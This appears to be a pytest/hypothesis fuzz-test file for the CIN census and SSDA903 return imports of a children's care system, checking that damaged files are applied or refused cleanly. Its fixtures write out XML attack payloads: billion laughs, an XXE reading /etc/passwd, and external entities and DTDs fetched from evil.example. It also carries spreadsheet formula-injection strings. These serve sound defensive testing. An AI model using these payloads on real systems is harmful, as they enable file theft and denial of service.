"""The return imports with broken and hostile files: `lantern import cin-census` and `lantern import ssda903`.

Each example starts from a real export of the test authority (tests/returns/conftest.py) after Lantern has lost the
records the file holds, damages it (a hostile value, a missing or repeated element or column, a truncation, another
encoding, a DTD with entities …) and imports it. The import must either apply the file or refuse it with problems
that each name the file and a reason, and then nothing is written. Any other exception fails the test.
"""

import re
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from lantern.care.models import CarePeriod
from lantern.journey.models import ChildProtectionConference, Referral
from lantern.missing.models import MissingEpisode
from lantern.people.models import ChildDisability
from lantern.returns.cin_census import export_cin_census
from lantern.returns.cin_import import import_cin_census
from lantern.returns.ssda903 import TABLES, export_ssda903
from lantern.returns.ssda903_import import MAX_CSV_BYTES, import_ssda903
from lantern.returns.xmlsafe import MAX_XML_BYTES, UnsafeXML, check_xml
from lantern.workforce.models import Allocation
from tests.factories import fixture_writes
from tests.fuzz.records import record_counts, rolled_back
from tests.fuzz.strategies import FORMULAS, count, fuzz_settings, hostile, nasty_text, outcome
from tests.returns.conftest import YEAR

pytestmark = pytest.mark.django_db

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><Message>&lol3;</Message>'
)

XXE = '<?xml version="1.0"?><!DOCTYPE Message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Message>&xxe;</Message>'
PARAMETER_ENTITY = '<?xml version="1.0"?><!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><m/>'
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE Message SYSTEM "http://evil.example/census.dtd"><Message/>'


def check(result, before: dict[str, int]) -> None:
    """Applied, or refused with every problem placed and reasoned and nothing written."""
    assert result.ok == result.applied
    outcome(f"{result.name} files applied" if result.ok else f"{result.name} files refused")
    if not result.ok:
        assert record_counts() == before, "a refused import wrote rows"
        for problem in result.problems:
            assert problem.file and problem.reason.strip()
            assert str(problem).startswith(problem.file)


# Mutations ---------------------------------------------------------------------------------------------------------


@st.composite
def damaged_xml(draw, original: bytes) -> bytes:
    text = original.decode()
    for _ in range(draw(st.integers(1, 3), label="how many changes")):
        values = list(re.finditer(r">([^<>]*)</", text))
        leaves = list(re.finditer(r"<(\w+)>[^<>]*</\1>", text))
        how = draw(
            st.sampled_from(
                ["value", "value", "value", "drop", "repeat", "truncate", "tag", "entity", "junk", "formula"]
            ),
            label="change",
        )
        if how in ("value", "formula") and values:
            found = draw(st.sampled_from(values))
            new = draw(st.sampled_from(FORMULAS) if how == "formula" else hostile)
            new = new.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "]]&gt;")
            text = text[: found.start(1)] + new + text[found.end(1) :]
        elif how in ("drop", "repeat") and leaves:
            found = draw(st.sampled_from(leaves))
            text = text[: found.start()] + (found.group() * 2 if how == "repeat" else "") + text[found.end() :]
        elif how == "truncate":
            text = text[: draw(st.integers(0, len(text)))]
        elif how == "tag":
            text = text.replace("<Message", "<Massage", 1).replace("</Message>", "</Massage>")
        elif how == "entity":
            return draw(st.sampled_from([BILLION_LAUGHS, XXE, PARAMETER_ENTITY, EXTERNAL_DTD])).encode()
        else:
            spot = draw(st.integers(0, len(text)))
            text = text[:spot] + draw(st.sampled_from(["\x00", "&#0;", "&bogus;", "<", "]]>", "\ufeff"])) + text[spot:]
    return encoded(draw, text)


def encoded(draw, text: str) -> bytes:
    how = draw(st.sampled_from(["utf-8"] * 6 + ["utf-8-sig", "utf-16", "latin-1", "invalid", "nul"]), label="bytes")
    if how == "latin-1":
        return text.replace("<Children>", "<Children>é", 1).encode("latin-1", errors="replace")
    if how == "invalid":
        data = text.encode()
        spot = draw(st.integers(0, len(data)))
        return data[:spot] + b"\xff\xfe\xc3(" + data[spot:]
    if how == "nul":
        return text.encode() + b"\x00" * 10
    return text.encode(how, errors="surrogatepass")


@st.composite
def damaged_csv(draw, original: str) -> str:
    lines = original.splitlines()
    for _ in range(draw(st.integers(1, 2), label="how many changes")):
        how = draw(
            st.sampled_from(
                ["cell", "cell", "cell", "cell", "formula", "drop column", "repeat column", "truncate", "cells"]
            ),
            label="change",
        )
        # Mostly a data row: a damaged header row makes the file not a table, and little past that gets tested.
        first = 0 if len(lines) < 2 or draw(st.integers(0, 9), label="header?") == 0 else 1
        row = draw(st.integers(first, len(lines) - 1), label="row") if lines else 0
        cells = lines[row].split(",") if lines else [""]
        column = draw(st.integers(0, len(cells) - 1), label="column")
        if how in ("cell", "formula"):
            value = draw(st.sampled_from(FORMULAS) if how == "formula" else hostile)
            if draw(st.booleans(), label="quoted"):
                value = '"' + value.replace('"', '""') + '"'
            cells[column] = value
            lines[row] = ",".join(cells)
        elif how in ("drop column", "repeat column"):
            lines = [
                ",".join(c[:column] + (c[column : column + 1] if how == "repeat column" else []) + c[column:])
                if how == "repeat column"
                else ",".join(c[:column] + c[column + 1 :])
                for c in (line.split(",") for line in lines)
            ]
        elif how == "truncate":
            text = "\n".join(lines)
            lines = text[: draw(st.integers(0, len(text)))].split("\n")
        else:
            lines[row] = ",".join(cells + [draw(nasty_text)] * draw(st.integers(-len(cells), 3)))
    return "\n".join(lines) + "\n"


def write(path: Path, text: str, draw) -> None:
    how = draw(st.sampled_from(["utf-8"] * 12 + ["utf-8-sig", "utf-16", "latin-1", "invalid", "nul", "crlf"]))
    if how == "latin-1":
        path.write_bytes(text.encode("latin-1", errors="replace") + "é,".encode("latin-1"))
    elif how == "invalid":
        path.write_bytes(text.encode("utf-8", errors="surrogatepass") + b"\xff\xfe\xc3(")
    elif how == "nul":
        path.write_bytes(text.replace(",", ",\x00", 1).encode())
    elif how == "crlf":
        path.write_bytes(text.replace("\n", "\r\n").encode())
    else:
        path.write_bytes(text.encode(how, errors="surrogatepass"))


# CIN census --------------------------------------------------------------------------------------------------------


@pytest.fixture
def census(authority, tmp_path) -> bytes:
    """The census as exported, after Lantern has lost the year's CIN records (so that a good file writes rows)."""
    path = tmp_path / "census.xml"
    with path.open("wb") as stream:
        export_cin_census(YEAR, stream)
    year = Referral.objects.filter(referral_date__gte="2025-04-01")
    with fixture_writes():
        ChildProtectionConference.objects.filter(referral__in=year).delete()
        year.delete()
        ChildDisability.objects.filter(child__in=[authority.amy, authority.ben]).delete()
    return path.read_bytes()


def test_the_cin_census_import_applies_or_refuses_a_damaged_file_cleanly(census, tmp_path):
    path = tmp_path / "damaged.xml"

    @fuzz_settings(60)
    @given(data=st.data())
    def run(data):
        count("CIN census files")
        path.write_bytes(data.draw(damaged_xml(census), label="file"))

        def attempt():
            before = record_counts()
            check(import_cin_census(path), before)

        rolled_back(attempt)

    run()


def test_the_cin_census_command_reports_problems_and_never_fails_otherwise(census, tmp_path):
    path = tmp_path / "damaged.xml"

    @fuzz_settings(15)
    @given(data=st.data())
    def run(data):
        count("CIN census commands")
        path.write_bytes(data.draw(damaged_xml(census), label="file"))

        def attempt():
            out = StringIO()
            try:
                call_command("import", "cin-census", str(path), stdout=out)
            except CommandError as refused:
                assert "nothing was written" in str(refused)
                assert "damaged.xml" in out.getvalue()

        rolled_back(attempt)

    run()


# SSDA903 -----------------------------------------------------------------------------------------------------------


@pytest.fixture
def tables(authority, tmp_path) -> dict[str, str]:
    """The SSDA903 files as exported, after Lantern has lost Cal's time in care."""
    (tmp_path / "903").mkdir()
    export_ssda903(YEAR, tmp_path / "903")
    with fixture_writes():
        CarePeriod.objects.filter(child=authority.cal).delete()
        MissingEpisode.objects.filter(child=authority.cal).delete()
        Allocation.objects.filter(child=authority.cal, role=Allocation.Role.SOCIAL_WORKER).delete()
    return {table.filename: (tmp_path / "903" / table.filename).read_text() for table in TABLES}


def test_the_ssda903_import_applies_or_refuses_damaged_files_cleanly(tables, tmp_path):
    directory = tmp_path / "damaged"
    directory.mkdir()
    names = sorted(name for name, text in tables.items() if text.count("\n") > 1) or sorted(tables)

    @fuzz_settings(60)
    @given(data=st.data())
    def run(data):
        count("SSDA903 file sets")
        for old in directory.iterdir():
            old.unlink()
        chosen = data.draw(st.lists(st.sampled_from(names), min_size=1, max_size=2, unique=True), label="damaged")
        for name, text in tables.items():
            if name in chosen:
                write(directory / name, data.draw(damaged_csv(text), label=name), data.draw)
            else:
                (directory / name).write_text(text)
        if data.draw(st.booleans(), label="a table twice"):
            (directory / "zz_again.csv").write_text(tables[chosen[0]])

        def attempt():
            before = record_counts()
            check(import_ssda903([directory]), before)

        rolled_back(attempt)

    run()


def test_the_ssda903_command_reports_problems_and_never_fails_otherwise(tables, tmp_path):
    directory = tmp_path / "damaged"
    directory.mkdir()

    @fuzz_settings(10)
    @given(data=st.data())
    def run(data):
        count("SSDA903 commands")
        for name, text in tables.items():
            write(directory / name, data.draw(damaged_csv(text), label=name), data.draw)

        def attempt():
            try:
                call_command("import", "ssda903", str(directory), stdout=StringIO())
            except CommandError as refused:
                assert "nothing was written" in str(refused)

        rolled_back(attempt)

    run()


# Files over the size limit, and files that are not there -----------------------------------------------------------


def sparse(path: Path, size: int) -> Path:
    """A file of `size` bytes that takes no disk space (all zeros)."""
    with path.open("wb") as handle:
        handle.truncate(size)
    return path


def test_a_cin_census_over_the_size_limit_is_refused_before_it_is_read(db, tmp_path):
    huge = sparse(tmp_path / "huge.xml", MAX_XML_BYTES + 1)
    (problem,) = import_cin_census(huge).problems
    assert problem.file == "huge.xml"
    assert problem.reason == f"refused: the file is {MAX_XML_BYTES + 1:,} bytes; the limit is {MAX_XML_BYTES:,}"


def test_an_ssda903_file_over_the_size_limit_is_refused(db, tmp_path):
    huge = sparse(tmp_path / "episodes.csv", MAX_CSV_BYTES + 1)
    (problem,) = import_ssda903([huge]).problems
    assert (problem.file, problem.reason) == ("episodes.csv", f"refused: larger than {MAX_CSV_BYTES:,} bytes")


@pytest.mark.parametrize("name", ["missing.xml", "a-directory"])
def test_a_cin_census_that_cannot_be_read_is_a_problem_not_a_crash(db, tmp_path, name):
    # Was a FileNotFoundError (or IsADirectoryError) out of `lantern import cin-census`.
    (tmp_path / "a-directory").mkdir()
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import", "cin-census", str(tmp_path / name), stdout=StringIO())
    (problem,) = import_cin_census(tmp_path / name).problems
    assert problem.file == name and problem.reason.startswith("cannot be read")


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (BILLION_LAUGHS, "DOCTYPE"),
        (XXE, "DOCTYPE"),
        (PARAMETER_ENTITY, "DOCTYPE"),
        (EXTERNAL_DTD, "DOCTYPE"),
        ("<Message>" + "<a>" * 5000 + "</a>" * 5000 + "</Message>", None),
    ],
)
def test_the_xml_check_refuses_entities_and_dtds(document, reason):
    if reason is None:  # deep nesting is well-formed: it parses, in bounded memory
        check_xml(document.encode())
        return
    with pytest.raises(UnsafeXML, match=reason):
        check_xml(document.encode())
    with pytest.raises(UnsafeXML, match="limit"):
        check_xml(b"<Message/>" + b" " * 100, max_bytes=50)


@pytest.mark.parametrize("formula", ["=1+1", "@SUM(1)", "+1+1", "-1+1"])
def test_a_formula_imported_as_a_postcode_is_kept_as_text_and_never_exported_as_a_formula(tables, tmp_path, formula):
    # A return's free text (a postcode, a URN) is stored as typed; every export neutralises it (returns/common.py).
    directory = tmp_path / "in"
    directory.mkdir()
    for name, text in tables.items():
        (directory / name).write_text(text.replace("ME4 4TZ", formula) if name == "episodes.csv" else text)
    result = import_ssda903([directory])
    assert result.ok, result.lines()
    (tmp_path / "out").mkdir()
    export_ssda903(YEAR, tmp_path / "out")
    cells = [cell for line in (tmp_path / "out" / "episodes.csv").read_text().splitlines() for cell in line.split(",")]
    assert formula not in cells
    assert f"'{formula}" in cells
